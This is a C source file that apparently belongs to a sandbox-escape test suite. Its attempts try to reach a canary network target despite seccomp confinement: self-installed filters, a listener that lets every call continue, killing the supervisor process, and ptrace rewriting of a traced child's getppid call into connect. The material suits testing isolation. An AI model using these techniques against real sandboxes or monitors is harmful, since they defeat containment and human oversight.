/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Turning the mechanism against itself: filters of the program's own, a listener that
 * lets every call continue, a tracer that changes calls after they were made.
 */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

static int install(unsigned int action, unsigned int flags)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 5, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_sendto, 4, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_sendmsg, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_bind, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_listen, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, action),
	};
	struct sock_fprog program = { ARRAY_SIZE(code), code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return seen("seccomp",
		    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program));
}

static void attack(int fd, const struct way *way)
{
	struct target canary = target_canary(way);

	if (!way_is_stream(way))
		seen("sendto", sendto(fd, "x", 1, 0, &canary.any, canary.len));
	reach(fd, &canary);
}

static void own_filter(const struct way *way)
{
	int fd = host_socket(way);

	install(SECCOMP_RET_LOG, 0);
	attack(fd, way);
	install(SECCOMP_RET_ALLOW, SECCOMP_FILTER_FLAG_TSYNC);
	attack(fd, way);
}

static void *let_continue(void *argument)
{
	int listener = *(int *)argument;

	for (;;) {
		struct seccomp_notif call = {};
		struct seccomp_notif_resp answer = {};

		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		answer.id = call.id;
		answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
	}
}

static void attack_listening(int fd, const struct way *way)
{
	static int listener;
	pthread_t thread;

	listener = install(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
	if (listener >= 0)
		pthread_create(&thread, NULL, let_continue, &listener);
	attack(fd, way);
}

static void own_listener(const struct way *way)
{
	/* a child: the filter must not outlive the attempt */
	int fd = host_socket(way), pid = fork();

	if (!pid) {
		attack_listening(fd, way);
		_exit(0);
	}
	reap(pid);
}

/* With its listener gone the first filter no longer stands in the way of a second. */
static void heir(const struct way *way)
{
	struct timespec pause = { 0, 10 * 1000 * 1000 };
	int fd = host_socket(way), supervisor = getppid();

	if (is_grafted) {
		prctl(PR_SET_PDEATHSIG, 0);
		seen("kill", kill(supervisor, SIGKILL));
		for (int i = 0; i < 100 && getppid() == supervisor; i++)
			nanosleep(&pause, NULL);
	}
	attack_listening(fd, way);
}

#if defined(__x86_64__) && !defined(__ILP32__)
static void change_call(int pid, const struct user_regs_struct *wanted)
{
	struct user_regs_struct now;
	int status;

	/* stops: entry of getppid, its exit; each is turned into the wanted call */
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	waitpid(pid, &status, 0);
	ptrace(PTRACE_GETREGS, pid, 0, &now);
	now.orig_rax = wanted->orig_rax;
	now.rdi = wanted->rdi;
	now.rsi = wanted->rsi;
	now.rdx = wanted->rdx;
	now.r10 = now.r8 = now.r9 = 0;
	ptrace(PTRACE_SETREGS, pid, 0, &now);
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	waitpid(pid, &status, 0);
	ptrace(PTRACE_GETREGS, pid, 0, &now);
	errno = -(int)now.rax;
	seen("rewritten connect", (int)now.rax < 0 ? -1 : (int)now.rax);
}

static void rewrite(const struct way *way)
{
	struct target canary = target_canary(way);
	int fd = host_socket(way), status, pid = fork();
	struct user_regs_struct wanted = { .orig_rax = SYS_connect,
					   .rdi = fd,
					   .rsi = (uintptr_t)&canary,
					   .rdx = canary.len };

	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		syscall(SYS_getppid);
		poke(fd);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	change_call(pid, &wanted);
	ptrace(PTRACE_CONT, pid, 0, 0);
	reap(pid);
}
#else
static void rewrite(const struct way *way)
{
	(void)way;
	unsupported("written for 64-bit x86");
}
#endif

const struct attempt attempts_seccomp[] = {
	{ "own-filter", WAY_ALL, 0, own_filter, "a filter of the program's own" },
	{ "own-listener", WAY_ALL, 0, own_listener,
	  "a listener of the program's own that lets calls continue" },
	{ "own-listener-heir", WAY_ALL, ENDS_RUN, heir,
	  "the same after killing the supervisor" },
	{ "ptrace-rewrite", WAY_ALL, 0, rewrite,
	  "a traced child's harmless call is changed to connect" },
	{}
};
